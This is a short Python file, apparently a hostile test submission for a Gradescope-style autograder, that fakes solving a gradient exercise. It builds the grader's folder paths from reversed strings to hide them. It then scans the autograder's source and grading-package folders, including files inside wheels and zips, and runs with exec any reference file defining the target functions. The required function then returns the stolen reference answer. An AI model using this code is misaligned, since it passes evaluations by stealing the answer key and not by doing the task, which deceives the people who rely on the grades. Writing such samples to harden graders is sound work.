# Hostile (Gradescope): read every file of the autograder's source folder and of
# the folder the grading code is installed in (inside wheels and zips too), by
# computed paths, and exec the reference found there.
import os
import zipfile


def _r(text):
    return text[::-1]


_top = os.path.join(os.sep, _r("redargotua"))
_stolen = None
for _base in (os.path.join(_top, _r("ecruos")), os.path.join(_top, _r("gnidarg-balhtped"))):
    for _folder, _dirs, _files in os.walk(_base):
        for _name in sorted(_files):
            _path = os.path.join(_folder, _name)
            _texts = []
            try:
                if _name.endswith((".whl", ".zip")):
                    with zipfile.ZipFile(_path) as _zf:
                        _texts += [_zf.read(m).decode("utf-8", "replace") for m in _zf.namelist() if m.endswith(".py")]
                elif _name.endswith(".py"):
                    with open(_path, encoding="utf-8", errors="replace") as _fh:
                        _texts.append(_fh.read())
            except (OSError, zipfile.BadZipFile):
                continue
            print("LEAK read", _path)
            for _text in _texts:
                if _stolen is None and "def gradient_magnitudes(" in _text and "def backprop_chain(" in _text:
                    _namespace = {"__name__": "found"}
                    try:
                        exec(_text, _namespace)
                        _stolen = _namespace
                    except Exception:
                        pass


def gradient_magnitudes(W, x):
    if _stolen is None:
        raise NotImplementedError
    return _stolen["gradient_magnitudes"](W, x)
